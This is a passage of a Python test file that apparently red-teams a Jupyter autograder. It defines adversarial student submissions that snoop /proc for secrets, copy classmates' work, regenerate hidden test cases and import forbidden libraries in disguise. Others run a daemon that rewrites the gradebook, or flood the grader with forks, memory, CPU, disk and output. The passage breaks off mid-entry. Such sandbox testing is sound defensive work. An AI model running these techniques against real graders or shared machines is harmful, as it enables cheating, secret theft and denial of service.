    "copy_classmate", {"read_other_students"},
    "reads the other students' submitted and autograded notebooks next to its own and exec's their solution cells",
    _cells("copy_classmate", STUBS + FIND_ROOTS + EXEC_NOTEBOOK + '''
        _nbs = glob.glob(os.path.join(os.getcwd(), "../../*/conv2d/*.ipynb"))
        for _root in _course_roots():
            for _sub in ("submitted", "autograded", "feedback"):
                _nbs += glob.glob(os.path.join(_root, _sub, "*", "conv2d", "*.ipynb"))
        _best = {}
        _suspicious = ("cnncore", "torch", "scipy", "_ATTACK", "os._exit", "get_ipython")
        for _path in sorted(_nbs, key=lambda p: "autograded" not in p):   # graded work first
            try:
                if os.path.samefile(os.path.dirname(_path), os.getcwd()):
                    continue
                _code = _solution_code(_path)
            except (OSError, ValueError):
                continue
            _mark("read", _path)
            for _gid, _src in _code.items():
                if "def " + _gid in _src and not any(w in _src for w in _suspicious):
                    _best.setdefault(_gid, (_src, _path))
        for _gid, (_src, _path) in _best.items():
            _adopt({_gid: _src}, _path)
    '''),
)

_attack(
    "proc_snoop", {"read_secrets", "read_course"},
    "reads /proc/*/cmdline, environ, cwd and fds of every visible process (the grader's among them) for the course "
    "root, the gradebook and secrets",
    _cells("proc_snoop", STUBS + EXEC_NOTEBOOK + '''
        _secretish = ("SECRET", "TOKEN", "KEY", "SEED", "PASSWORD", "CNNCOURSE")
        _found = {}
        for _pid in [p for p in os.listdir("/proc") if p.isdigit()][:5000]:
            if int(_pid) == os.getpid():
                continue
            try:
                with open(f"/proc/{_pid}/cmdline", "rb") as f:
                    _cmd = f.read().replace(b"\\0", b" ").decode(errors="replace")
            except OSError:
                continue
            try:
                with open(f"/proc/{_pid}/environ", "rb") as f:
                    for _kv in f.read().split(b"\\0"):
                        _k, _, _v = _kv.decode(errors="replace").partition("=")
                        if any(s in _k.upper() for s in _secretish):
                            _found[f"{_pid}:{_k}"] = _v
                            _mark("secret-env", f"{_pid} {_cmd[:100]} {_k}")
            except OSError:
                pass
            try:
                _cwd = os.readlink(f"/proc/{_pid}/cwd")
                if "nbgrader" in _cmd or os.path.exists(os.path.join(_cwd, "gradebook.db")):
                    _mark("grader-cwd", f"{_pid} {_cmd[:200]} cwd={_cwd}")
                    _src = os.path.join(_cwd, "source", "conv2d", "conv2d.ipynb")
                    if os.path.exists(_src):
                        _adopt(_solution_code(_src), _src)
            except (OSError, ValueError):
                pass
            try:
                for _fd in os.listdir(f"/proc/{_pid}/fd"):
                    _target = os.readlink(f"/proc/{_pid}/fd/{_fd}")
                    if _target.endswith((".db", ".ipynb", ".npz", ".json")):
                        _mark("open-file", f"{_pid} {_target}")
            except OSError:
                pass
    '''),
)

_attack(
    "leak_environment", {"read_secrets"},
    "prints its own environment and that of every process it can see (/proc/<pid>/environ), so that the "
    "course secret reaches the feedback",
    _cells("leak_environment", STUBS + '''
        def _show(where, pairs):
            # the course's own variables in full, only the names of the others (no unrelated credentials)
            print(where, {k: (v if k.upper().startswith("CNNCOURSE") else "...") for k, v in pairs})


        _show("os.environ", os.environ.items())
        for _pid in ["self", "1", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()][:300]:
            try:
                with open(f"/proc/{_pid}/environ", "rb") as f:
                    _pairs = [kv.decode(errors="replace").partition("=")[::2] for kv in f.read().split(b"\\0") if kv]
            except OSError:
                continue
            _show(f"/proc/{_pid}/environ", _pairs)
            if _pid not in ("self", str(os.getpid())) and any(k == "CNNCOURSE_SECRET" for k, _ in _pairs):
                _mark("saw-secret", _pid)
    '''),
    damage="the course secret (or other credentials) printed into the student's feedback",
)

_attack(
    "regenerate_cases", {"regenerate_cases", "read_secrets", "forbidden_library"},
    "imports the grader's checks (cnncourse.grading.checks / cnncore.grading.checks), regenerates the hidden cases "
    "from guessed seeds and secrets, and answers them from a lookup table",
    _cells("regenerate_cases", STUBS + FIND_ROOTS + '''
        import hashlib
        import importlib
        import inspect
        import re

        import numpy as np


        def _key(value):
            if isinstance(value, np.ndarray):
                return ("a", value.shape, value.dtype.str, hashlib.sha1(np.ascontiguousarray(value).tobytes()).hexdigest())
            if isinstance(value, (tuple, list)):
                return tuple(_key(v) for v in value)
            if isinstance(value, (int, np.integer)):
                return int(value)
            return repr(value)


        def _call_key(fn, args, kwargs):
            sig = inspect.signature(fn)
            bound = sig.bind(*args, **kwargs)
            bound.apply_defaults()
            items = []
            for name, value in bound.arguments.items():
                if name == "stride" and isinstance(value, (int, np.integer)):
                    value = (int(value), int(value))
                items.append((name, _key(value)))
            return (fn.__name__, tuple(items))


        _checks = None
        for _modname in ("cnncourse.grading.checks", "cnncore.grading.checks", "cnncourse.grading"):
            try:
                _checks = importlib.import_module(_modname)
                _mark("imported", _modname)
                break
            except Exception:
                continue

        _seeds = [0, 1, 7, 42, 123, 1234, 2024, 2025, 2026, 12345, 20251126]
        for _v in os.environ.values():
            if _v.isdigit() and len(_v) < 19:
                _seeds.append(int(_v))
        for _root in _course_roots():
            try:
                with open(os.path.join(_root, "nbgrader_config.py")) as f:
                    for _m in re.finditer(r"(?i)(secret|seed)[^=]*=\\s*['\\"]?([^'\\"\\s]+)", f.read()):
                        _seeds.append(_m.group(2))
                        _mark("config-secret", _m.group(0))
            except OSError:
                pass
            for _name in (".cnncourse_secret", ".cnncourse-secret", "secret.txt", ".secret", "course_secret"):
                try:
                    with open(os.path.join(_root, _name)) as f:
                        _seeds.append(f.read().strip())
                        _mark("secret-file", _name)
                except OSError:
                    pass

        _stubs = {"conv_output_size": conv_output_size, "conv2d_forward": conv2d_forward,
                  "conv2d_backward": conv2d_backward}
        _table = {}
        _registry = getattr(_checks, "CHECKS", {}) if _checks is not None else {}
        for _fname, _chk in list(_registry.items()):
            if _fname not in _stubs:
                continue
            for _seed in _seeds:
                try:
                    for _case in _chk.make_cases(_seed):
                        _args = [v for _, v in _case.args]
                        _table[_call_key(_stubs[_fname], _args, _case.kwargs)] = _case.expected
                except Exception:
                    continue
        if _table:
            _mark("table", len(_table))


        def _answer(fn, args, kwargs, n):
            expected = _table.get(_call_key(fn, args, kwargs))
            if expected is None:
                return fn(*args, **kwargs)
            dtype = getattr(args[1] if len(args) > 1 else args[0], "dtype", None)
            if n is None:
                return int(expected[0]) if np.ndim(expected[0]) == 0 else np.asarray(expected[0], dtype=dtype)
            return tuple(np.asarray(e, dtype=dtype) for e in expected[:n])


        def conv_output_size(size, kernel_size, stride=1, padding="valid", _stub=conv_output_size):
            return _answer(_stub, (size, kernel_size), dict(stride=stride, padding=padding), None)


        def conv2d_forward(x, kernel, stride=1, padding="valid", _stub=conv2d_forward):
            return _answer(_stub, (x, kernel), dict(stride=stride, padding=padding), None)


        def conv2d_backward(dy, x, kernel, stride=1, padding="valid", _stub=conv2d_backward):
            return _answer(_stub, (dy, x, kernel), dict(stride=stride, padding=padding), 2)
    '''),
    damage="full marks whenever the hidden cases come from a seed the student can read",
)

# ==========================================================================
# 4. Handing the work to a library, however hidden
# ==========================================================================

_attack(
    "calls_cnncore", {"forbidden_library"},
    "imports cnncore and returns its results",
    _cells("calls_cnncore", '''
        import cnncore


        def conv_output_size(size, kernel_size, stride=1, padding="valid"):
            return cnncore.conv_output_size(size, kernel_size, stride=stride, padding=padding)
    ''', forward='''
        import cnncore


        def conv2d_forward(x, kernel, stride=1, padding="valid"):
            return cnncore.conv2d(x, kernel, stride=stride, padding=padding)
    ''', backward='''
        import cnncore


        def conv2d_backward(dy, x, kernel, stride=1, padding="valid"):
            dx, dkernel, _ = cnncore.conv2d_backward(dy, x, kernel, stride=stride, padding=padding)
            return dx, dkernel
    '''),
)

_attack(
    "importlib_hidden", {"forbidden_library", "hidden_import"},
    "gets cnncore through importlib.import_module with a name built at run time, and calls it via getattr",
    _cells("importlib_hidden", '''
        import importlib as _il

        _lib = getattr(_il, "import_" + "module")("".join(chr(c) for c in (99, 110, 110, 99, 111, 114, 101)))
        _f = {n: getattr(_lib, n) for n in dir(_lib) if n.startswith("conv")}


        def conv_output_size(size, kernel_size, stride=1, padding="valid"):
            return _f["conv_output_size"](size, kernel_size, stride=stride, padding=padding)
    ''', forward='''
        def conv2d_forward(x, kernel, stride=1, padding="valid"):
            return _f["conv2d"](x, kernel, stride=stride, padding=padding)
    ''', backward='''
        def conv2d_backward(dy, x, kernel, stride=1, padding="valid"):
            return _f["conv2d_backward"](dy, x, kernel, stride=stride, padding=padding)[:2]
    '''),
)

_attack(
    "torch_dunder_import", {"forbidden_library", "hidden_import"},
    "torch through __import__ of a string built from bytes: F.conv2d forward, autograd backward",
    _cells("torch_dunder_import", '''
        import numpy as np

        _t = __import__(bytes([116, 111, 114, 99, 104]).decode())          # "torch"
        _F = getattr(__import__("torch.nn.functional", fromlist=["x"]), "conv2d")


        def _pair(v):
            return (int(v[0]), int(v[1])) if isinstance(v, (tuple, list)) else (int(v), int(v))


        def _pads(size, k, s):
            out = -(-size // s)
            total = max((out - 1) * s + k - size, 0)
            return total // 2, total - total // 2


        def _prep(x, kernel, stride, padding, grad=False):
            sh, sw = _pair(stride)
            xt = _t.tensor(np.ascontiguousarray(x)).permute(0, 3, 1, 2).requires_grad_(grad)
            kt = _t.tensor(np.ascontiguousarray(kernel)).permute(3, 2, 0, 1).requires_grad_(grad)
            xin = xt
            if padding == "same":
                (t, b), (l, r) = _pads(x.shape[1], kernel.shape[0], sh), _pads(x.shape[2], kernel.shape[1], sw)
                xin = _t.nn.functional.pad(xt, (l, r, t, b))
            return xt, kt, _F(xin, kt, stride=(sh, sw))


        def conv_output_size(size, kernel_size, stride=1, padding="valid"):
            x = np.zeros((1, size, 1, 1))
            k = np.zeros((kernel_size, 1, 1, 1))
            return int(_prep(x, k, (stride, 1), padding)[2].shape[2])
    ''', forward='''
        def conv2d_forward(x, kernel, stride=1, padding="valid"):
            return _prep(x, kernel, stride, padding)[2].permute(0, 2, 3, 1).detach().numpy().astype(x.dtype)
    ''', backward='''
        def conv2d_backward(dy, x, kernel, stride=1, padding="valid"):
            xt, kt, y = _prep(x, kernel, stride, padding, grad=True)
            y.backward(_t.tensor(np.ascontiguousarray(dy)).permute(0, 3, 1, 2))
            return (xt.grad.permute(0, 2, 3, 1).numpy().astype(x.dtype),
                    kt.grad.permute(2, 3, 1, 0).numpy().astype(x.dtype))
    '''),
)

_attack(
    "scipy_signal", {"forbidden_library"},
    "scipy.signal.correlate/convolve per channel pair, strided by slicing",
    _cells("scipy_signal", '''
        import numpy as np
        from scipy import signal


        def _pair(v):
            return (int(v[0]), int(v[1])) if isinstance(v, (tuple, list)) else (int(v), int(v))


        def _pads(size, k, s):
            out = -(-size // s)
            total = max((out - 1) * s + k - size, 0)
            return total // 2, total - total // 2


        def _padded(x, kernel, stride, padding):
            sh, sw = _pair(stride)
            if padding != "same":
                return x, (0, 0), (0, 0)
            t = _pads(x.shape[1], kernel.shape[0], sh)
            l = _pads(x.shape[2], kernel.shape[1], sw)
            return np.pad(x, ((0, 0), t, l, (0, 0))), t, l


        def conv_output_size(size, kernel_size, stride=1, padding="valid"):
            x = np.zeros((1, size, 1, 1))
            xp, _, _ = _padded(x, np.zeros((kernel_size, 1, 1, 1)), (stride, 1), padding)
            return len(signal.correlate(xp[0, :, 0, 0], np.zeros(kernel_size), mode="valid")[::stride])
    ''', forward='''
        def conv2d_forward(x, kernel, stride=1, padding="valid"):
            sh, sw = _pair(stride)
            xp, _, _ = _padded(x, kernel, stride, padding)
            out = None
            for b in range(x.shape[0]):
                for o in range(kernel.shape[3]):
                    acc = sum(signal.correlate(xp[b, :, :, c], kernel[:, :, c, o], mode="valid")
                              for c in range(x.shape[3]))[::sh, ::sw]
                    if out is None:
                        out = np.zeros((x.shape[0],) + acc.shape + (kernel.shape[3],), dtype=x.dtype)
                    out[b, :, :, o] = acc
            return out
    ''', backward='''
        def conv2d_backward(dy, x, kernel, stride=1, padding="valid"):
            sh, sw = _pair(stride)
            xp, (t, _), (l, _) = _padded(x, kernel, stride, padding)
            KH, KW = kernel.shape[:2]
            up = np.zeros((dy.shape[0], xp.shape[1] - KH + 1, xp.shape[2] - KW + 1, dy.shape[3]), dtype=dy.dtype)
            up[:, ::sh, ::sw][:, :dy.shape[1], :dy.shape[2]] = dy
            dxp = np.zeros_like(xp)
            dk = np.zeros_like(kernel)
            for b in range(x.shape[0]):
                for c in range(x.shape[3]):
                    for o in range(kernel.shape[3]):
                        dxp[b, :, :, c] += signal.convolve(up[b, :, :, o], kernel[:, :, c, o], mode="full")
                        dk[:, :, c, o] += signal.correlate(xp[b, :, :, c], up[b, :, :, o], mode="valid")
            return dxp[:, t:t + x.shape[1], l:l + x.shape[2]], dk
    '''),
)

_attack(
    "thread_cnncore", {"forbidden_library", "thread", "hidden_import"},
    "imports and calls cnncore inside a threading.Thread, where a per-thread call monitor does not look",
    _cells("thread_cnncore", '''
        import threading


        def _in_thread(name, *args, **kwargs):
            box = {}

            def work():
                lib = __import__("cnn" + "core")
                box["out"] = getattr(lib, name)(*args, **kwargs)

            t = threading.Thread(target=work, daemon=True)
            t.start()
            t.join()
            return box["out"]


        def conv_output_size(size, kernel_size, stride=1, padding="valid"):
            return _in_thread("conv_output_size", size, kernel_size, stride=stride, padding=padding)
    ''', forward='''
        def conv2d_forward(x, kernel, stride=1, padding="valid"):
            return _in_thread("conv2d", x, kernel, stride=stride, padding=padding)
    ''', backward='''
        def conv2d_backward(dy, x, kernel, stride=1, padding="valid"):
            return _in_thread("conv2d_backward", dy, x, kernel, stride=stride, padding=padding)[:2]
    '''),
)

_attack(
    "subprocess_cnncore", {"forbidden_library", "subprocess", "hidden_import"},
    "computes with cnncore in a fresh `python -c` child process, arrays passed through .npy files",
    _cells("subprocess_cnncore", '''
        import subprocess
        import tempfile

        import numpy as np

        _CHILD = """
        import sys, numpy as np, cnncore
        d = sys.argv[1]
        name = open(d + "/name").read()
        args = [np.load(d + f"/a{i}.npy") for i in range(int(open(d + "/n").read()))]
        kw = eval(open(d + "/kw").read())
        out = getattr(cnncore, name)(*[a.item() if a.ndim == 0 else a for a in args], **kw)
        out = out if isinstance(out, tuple) else (out,)
        for i, o in enumerate(out):
            if o is not None:
                np.save(d + f"/o{i}.npy", np.asarray(o))
        """


        def _remote(name, args, kw, n_out):
            with tempfile.TemporaryDirectory() as d:
                for i, a in enumerate(args):
                    np.save(f"{d}/a{i}.npy", np.asarray(a))
                for fname, text in (("name", name), ("n", str(len(args))), ("kw", repr(kw))):
                    with open(f"{d}/{fname}", "w") as f:
                        f.write(text)
                subprocess.run([sys.executable, "-c", _CHILD, d],
                               check=True, timeout=60, capture_output=True)
                outs = [np.load(f"{d}/o{i}.npy") for i in range(n_out)]
            return outs[0] if n_out == 1 else tuple(outs)


        def conv_output_size(size, kernel_size, stride=1, padding="valid"):
            return int(_remote("conv_output_size", [size, kernel_size], dict(stride=stride, padding=padding), 1))
    ''', forward='''
        def conv2d_forward(x, kernel, stride=1, padding="valid"):
            return _remote("conv2d", [x, kernel], dict(stride=stride, padding=padding), 1)
    ''', backward='''
        def conv2d_backward(dy, x, kernel, stride=1, padding="valid"):
            return _remote("conv2d_backward", [dy, x, kernel], dict(stride=stride, padding=padding), 2)
    '''),
)

_attack(
    "load_cnncore_by_path", {"forbidden_library", "hidden_import"},
    "searches the file system for the compiled cnncore and loads it from its path under another name, past any "
    "import blocker",
    _cells("load_cnncore_by_path", '''
        import glob
        import importlib.util
        import sysconfig

        _lib = None
        _places = [sysconfig.get_paths()["purelib"], sysconfig.get_paths()["platlib"]] + sys.path + \\
            glob.glob("/work/*") + glob.glob("/home/*/*") + glob.glob("/opt/*") + ["/usr/lib/python3/dist-packages"]
        for _place in dict.fromkeys(p for p in _places if p and os.path.isdir(p)):
            _init = os.path.join(_place, "cnncore", "__init__.py")
            if not os.path.exists(_init) or not glob.glob(os.path.join(_place, "cnncore", "_conv*.so")):
                continue
            try:
                # under another name: an import blocker that looks for "cnncore" never sees it
                _spec = importlib.util.spec_from_file_location(
                    "npx_helpers", _init, submodule_search_locations=[os.path.dirname(_init)])
                _lib = importlib.util.module_from_spec(_spec)
                sys.modules["npx_helpers"] = _lib
                _spec.loader.exec_module(_lib)
                _mark("loaded", _init)
                break
            except Exception:
                _lib = None


        def conv_output_size(size, kernel_size, stride=1, padding="valid"):
            return _lib.conv_output_size(size, kernel_size, stride=stride, padding=padding)
    ''', forward='''
        def conv2d_forward(x, kernel, stride=1, padding="valid"):
            return _lib.conv2d(x, kernel, stride=stride, padding=padding)
    ''', backward='''
        def conv2d_backward(dy, x, kernel, stride=1, padding="valid"):
            return _lib.conv2d_backward(dy, x, kernel, stride=stride, padding=padding)[:2]
    '''),
)

# ==========================================================================
# 5. After grading: daemons, children, hooks
# ==========================================================================

_DAEMON = '''

def _daemonize(job):
    """Double fork + setsid: the job runs in a grandchild that the kernel does not wait for."""
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        devnull = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        job()
    except BaseException:
        pass
    os._exit(0)
'''
_DAEMON = textwrap.indent(_DAEMON, " " * 8)

_attack(
    "gradebook_daemon", {"daemon", "gradebook", "other_submission"},
    "a daemon sleeps, then for 90 s keeps setting its own grades to full (and others' to 0) in ../../../gradebook.db "
    "and 'deletes' other students' submitted and autograded work",
    _cells("gradebook_daemon", STUBS + FIND_ROOTS + _DAEMON + '''
        import time

        _me = os.path.basename(os.path.dirname(os.getcwd()))
        _roots = _course_roots()


        def _vandalize():
            import sqlite3
            time.sleep(5)
            end = time.time() + 90
            while time.time() < end:
                for root in _roots:
                    if not os.path.exists(os.path.join(root, "CANARY.txt")):
                        continue          # armed only in the test's throwaway course
                    try:
                        db = sqlite3.connect(os.path.join(root, "gradebook.db"), timeout=5)
                        mine = ("SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
                                "ON sn.assignment_id = sa.id WHERE sa.student_id {} ?")
                        full = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
                        db.execute(f"UPDATE grade SET auto_score = {full}, manual_score = {full} "
                                   f"WHERE notebook_id IN ({mine.format('=')})", (_me,))
                        db.execute(f"UPDATE grade SET manual_score = 0 WHERE notebook_id IN ({mine.format('!=')})",
                                   (_me,))
                        db.commit()
                        db.close()
                        _mark("rewrote-gradebook", root)
                    except Exception:
                        pass
                    for sub in ("submitted", "autograded"):
                        for canary in glob.glob(os.path.join(root, sub, "*", "*", "CANARY.txt")):
                            if os.sep + _me + os.sep in canary:
                                continue
                            try:     # stands for deleting the classmate's notebook
                                os.rename(canary, canary + ".deleted-by-" + _ATTACK)
                                _mark("deleted-other-submission", canary)
                            except OSError:
                                pass
                time.sleep(2)


        _daemonize(_vandalize)
    '''),
    damage="full marks in the gradebook after grading; classmates' submissions gone",
)

_attack(
    "outliving_child", {"outliving_child", "subprocess", "daemon"},
    "starts children in their own session (Popen, nohup sh) that wake after 10 s and write a marker",
    _cells("outliving_child", STUBS + '''
        import subprocess

        _path = os.path.join(_MARKERS, _ATTACK + "-still-alive")
        _code = ("import os, time; time.sleep(10); os.makedirs({m!r}, exist_ok=True); "
                 "open({p!r}, 'a').write('python child %d\\\\n' % os.getpid())").format(m=_MARKERS, p=_path)
        try:
            subprocess.Popen([sys.executable, "-c", _code], start_new_session=True, stdin=subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)
        except OSError:
            pass
        os.system(f"nohup sh -c 'sleep 10; mkdir -p {_MARKERS}; echo shell child >> {_path}' >/dev/null 2>&1 &")
    '''),
    damage="a process of the student's running on the grading machine after grading",
)

_attack(
    "atexit_spawn", {"persistence", "daemon", "signals"},
    "atexit, a finalizer and a SIGTERM handler that, when the kernel is shut down, start a detached child",
    _cells("atexit_spawn", STUBS + _DAEMON + '''
        import atexit
        import signal
        import time
        import weakref


        def _later():
            time.sleep(3)
            _mark("ran-after-kernel-exit")


        def _spawn(*args):
            _daemonize(_later)


        atexit.register(_spawn)


        class _Anchor:
            pass


        _anchor = _Anchor()
        weakref.finalize(_anchor, _spawn)
        signal.signal(signal.SIGTERM, lambda signum, frame: (_spawn(), os._exit(0)))
        signal.signal(signal.SIGHUP, lambda signum, frame: (_spawn(), os._exit(0)))
    '''),
)

_attack(
    "background_repatcher", {"thread", "display_formatter", "ast_node_interactivity", "fake_module"},
    "a daemon thread that re-applies its patches every few ms (display, interactivity, fake modules), so that "
    "restoring them once before grading does not help",
    _cells("background_repatcher", STUBS + '''
        import threading
        import time
        import types

        from IPython import get_ipython

        _ip = get_ipython()
        _fake = types.ModuleType("fake")
        _fake.__path__ = []
        _fake.check = _fake.grade = lambda *args, **kwargs: "passed"


        def _repatch():
            end = time.time() + 300
            while time.time() < end:
                try:
                    if _ip is not None:
                        _ip.ast_node_interactivity = "none"
                        _plain = _ip.display_formatter.formatters["text/plain"]
                        _plain.for_type(float, lambda obj, p, cycle: p.text("'passed'"))
                    for name in ("cnncore.grading", "cnncourse.grading", "cnncourse.grading.checks"):
                        sys.modules[name] = _fake
                except Exception:
                    pass
                time.sleep(0.005)


        threading.Thread(target=_repatch, daemon=True, name="matplotlib-cache").start()
    '''),
)

# ==========================================================================
# 6. Network
# ==========================================================================

_attack(
    "loopback_network", {"network"},
    f"connects to the host's loopback ({LOOPBACK_HOST}:{LOOPBACK_PORT}), Jupyter ports and the internet",
    _cells("loopback_network", STUBS + '''
        import glob
        import json
        import socket

        _targets = [("127.0.0.1", {port}), ("localhost", {port}), ("::1", {port}), ("127.0.0.2", {port})]
        try:
            _targets.append((socket.gethostbyname(socket.gethostname()), {port}))
        except OSError:
            pass
        _targets += [("127.0.0.1", p) for p in (8888, 8889, 8890, 8000, 8081)]
        try:
            from jupyter_core.paths import jupyter_runtime_dir
            for _cf in glob.glob(os.path.join(jupyter_runtime_dir(), "*.json")):
                with open(_cf) as f:
                    _info = json.load(f)
                for _k in ("shell_port", "iopub_port", "control_port", "stdin_port", "hb_port", "port"):
                    if _info.get(_k):
                        _targets.append((_info.get("ip", "127.0.0.1"), int(_info[_k])))
        except Exception:
            pass
        _targets += [("1.1.1.1", 53), ("8.8.8.8", 53), ("pypi.org", 443)]
        for _host, _port in dict.fromkeys(_targets):
            try:
                with socket.create_connection((_host, _port), timeout=0.5) as s:
                    s.sendall(f"{{_ATTACK}} from pid {{os.getpid()}}\\n".encode())
                    _mark(f"connected-{{_host}}-{{_port}}")
            except OSError:
                pass
        try:
            _u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            _u.sendto(_ATTACK.encode(), ("127.0.0.1", {port}))
            _u.close()
        except OSError:
            pass
    '''.replace("{port}", str(LOOPBACK_PORT)).replace("{{", "{").replace("}}", "}")),
)

# ==========================================================================
# 7. Resources and crashes
# ==========================================================================

_attack(
    "memory_hog", {"memory"},
    "allocates and touches 6 GiB at top level and again in the first call of each graded function",
    _cells("memory_hog", STUBS + '''
        import numpy as np


        def _hog(gib=6):
            blocks = []
            try:
                for _ in range(gib * 4):
                    block = np.empty(2**28 // 8)     # 256 MiB
                    block.fill(1.0)                   # touch every page
                    blocks.append(block)
                _mark("allocated", f"{gib} GiB")
            except MemoryError:
                pass
            return blocks


        _kept = _hog()
        _stubs = (conv_output_size, conv2d_forward, conv2d_backward)
        _calls = {}


        def _first_call_hogs(fn):
            def wrapper(*args, **kwargs):
                if not _calls.get(fn.__name__):
                    _calls[fn.__name__] = True
                    del _kept[:]          # at most 6 GiB at a time
                    _kept.extend(_hog())
                return fn(*args, **kwargs)
            wrapper.__name__ = fn.__name__
            return wrapper


        conv_output_size, conv2d_forward, conv2d_backward = map(_first_call_hogs, _stubs)
    '''),
    damage="6 GiB taken from the grading machine (and from the other students graded at the same time)",
)

_attack(
    "fork_bomb", {"process_flood"},
    "forks up to 2000 children (bounded), each sleeping 60 s",
    _cells("fork_bomb", STUBS + '''
        import time


        def _flood(limit=2000):
            n = 0
            for i in range(limit):
                try:
                    pid = os.fork()
                except OSError:
                    break
                if pid == 0:
                    try:
                        time.sleep(30)
                        if i % 200 == 0:
                            _mark("child-alive-after-30s", i)
                        time.sleep(30)
                    finally:
                        os._exit(0)
                n += 1
            if n:
                _mark("forked", n)


        _flood()
    '''),
)

_attack(
    "output_flood", {"output_flood"},
    "300 MB to stdout and 300 MB to stderr (print and os.write), and 10 MB more from the first call of each function",
    _cells("output_flood", STUBS + '''
        _MIB = ("x" * 1023 + "\\n") * 1024
        _MIB_BYTES = _MIB.encode()
        for _ in range(150):
            print(_MIB, end="")
        for _ in range(150):
            os.write(1, _MIB_BYTES)
        for _ in range(150):
            print(_MIB, end="", file=sys.stderr)
        for _ in range(150):
            os.write(2, _MIB_BYTES)
        _stubs = (conv_output_size, conv2d_forward, conv2d_backward)
        _flooded = set()


        def _loud(fn):
            def wrapper(*args, **kwargs):
                if fn.__name__ not in _flooded:
                    _flooded.add(fn.__name__)
                    for _ in range(5):
                        print(_MIB, end="")
                        os.write(2, _MIB_BYTES)
                return fn(*args, **kwargs)
            wrapper.__name__ = fn.__name__
            return wrapper


        conv_output_size, conv2d_forward, conv2d_backward = map(_loud, _stubs)
    '''),
)

_attack(
    "exit_in_function", {"os_exit"},
    "os._exit(0) inside every graded function",
    _cells("exit_in_function", '''
        def conv_output_size(size, kernel_size, stride=1, padding="valid"):
            os._exit(0)
    ''', forward='''
        def conv2d_forward(x, kernel, stride=1, padding="valid"):
            os._exit(0)
    ''', backward='''
        def conv2d_backward(dy, x, kernel, stride=1, padding="valid"):
            os._exit(0)
    '''),
)

_attack(
    "exit_top_level", {"os_exit"},
    "defines the stubs, then os._exit(0) at top level: the kernel is gone before any grade cell",
    _cells("exit_top_level", STUBS + '''
        os._exit(0)
    '''),
)

_attack(
    "segfault", {"segfault"},
    "ctypes.string_at(0) inside every graded function (faulthandler off)",
    _cells("segfault", STUBS + '''
        import ctypes
        import faulthandler

        faulthandler.disable()


        def conv_output_size(size, kernel_size, stride=1, padding="valid"):
            return ctypes.string_at(0)


        def conv2d_forward(x, kernel, stride=1, padding="valid"):
            return ctypes.string_at(0)


        def conv2d_backward(dy, x, kernel, stride=1, padding="valid"):
            return ctypes.string_at(0)
    '''),
)

_attack(
    "deep_recursion", {"recursion", "segfault"},
    "raises the recursion limit to 10**7 and recurses without end (C stack overflow) in each function",
    _cells("deep_recursion", STUBS + '''
        sys.setrecursionlimit(10**7)


        def _down(n):
            return _down(n + 1) + 1


        def conv_output_size(size, kernel_size, stride=1, padding="valid"):
            return _down(0)


        def conv2d_forward(x, kernel, stride=1, padding="valid"):
            return _down(0)


        def conv2d_backward(dy, x, kernel, stride=1, padding="valid"):
            return _down(0)
    '''),
)

_attack(
    "cpu_burn", {"cpu", "process_flood", "outliving_child"},
    "four forked children spin for 60 s each, and the first call of each function spins for 20 s",
    _cells("cpu_burn", STUBS + '''
        import time


        def _spin(seconds):
            end = time.perf_counter() + seconds
            n = 0
            while time.perf_counter() < end:
                n += 1
            return n


        for _i in range(4):
            try:
                if os.fork() == 0:
                    try:
                        _spin(60)
                        _mark("spun-60s")
                    finally:
                        os._exit(0)
            except OSError:
                pass
        _stubs = (conv_output_size, conv2d_forward, conv2d_backward)
        _spun = set()


        def _slow(fn):
            def wrapper(*args, **kwargs):
                if fn.__name__ not in _spun:
                    _spun.add(fn.__name__)
                    _spin(20)
                return fn(*args, **kwargs)
            wrapper.__name__ = fn.__name__
            return wrapper


        conv_output_size, conv2d_forward, conv2d_backward = map(_slow, _stubs)
    '''),
    damage="steals the CPU from the students graded after it (their cases time out)",
)

_attack(
    "disk_and_fds", {"disk"},
    "writes up to 2 GiB into its folder and /tmp, 256 MiB into /dev/shm, and opens file descriptors until refused",
    _cells("disk_and_fds", STUBS + '''
        _CHUNK = b"\\0" * 2**26        # 64 MiB
        for _d, _limit in ((os.getcwd(), 2**31), ("/tmp", 2**31), ("/dev/shm", 2**28)):
            _written = 0
            try:
                with open(os.path.join(_d, f"cnncourse-attack-{_ATTACK}.bin"), "wb") as f:
                    while _written < _limit:
                        f.write(_CHUNK)
                        _written += len(_CHUNK)
                _mark("filled", f"{_d} {_written}")
            except OSError:
                pass
        _fds = []


        def conv2d_forward(x, kernel, stride=1, padding="valid", _stub=conv2d_forward):
            try:
                while len(_fds) < 10**6:
                    _fds.append(os.open(os.devnull, os.O_RDONLY))
            except OSError:
                pass
            return _stub(x, kernel, stride, padding)
    '''),
)

_attack(
    "signal_tricks", {"signals"},
    "ignores/blocks SIGINT, SIGTERM, SIGALRM, SIGXCPU..., cancels interval timers, then the first call of each "
    "function hangs (at most 40 s)",
    _cells("signal_tricks", STUBS + '''
        import signal
        import time

        _clock = time.perf_counter
        _SIGNALS = [getattr(signal, n) for n in ("SIGINT", "SIGTERM", "SIGALRM", "SIGHUP", "SIGUSR1", "SIGUSR2",
                                                 "SIGXCPU", "SIGVTALRM", "SIGPROF", "SIGQUIT") if hasattr(signal, n)]


        def _deaf():
            for s in _SIGNALS:
                try:
                    signal.signal(s, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            try:
                signal.pthread_sigmask(signal.SIG_BLOCK, _SIGNALS)
            except (OSError, ValueError):
                pass
            for timer in (signal.ITIMER_REAL, signal.ITIMER_VIRTUAL, signal.ITIMER_PROF):
                signal.setitimer(timer, 0)


        _deaf()
        _stubs = (conv_output_size, conv2d_forward, conv2d_backward)
        _hung = set()


        def _stubborn(fn):
            def wrapper(*args, **kwargs):
                _deaf()
                if fn.__name__ not in _hung:
                    _hung.add(fn.__name__)
                    end = _clock() + 40
                    while _clock() < end:
                        pass
                    _mark("hung-40s", fn.__name__)
                return fn(*args, **kwargs)
            wrapper.__name__ = fn.__name__
            return wrapper


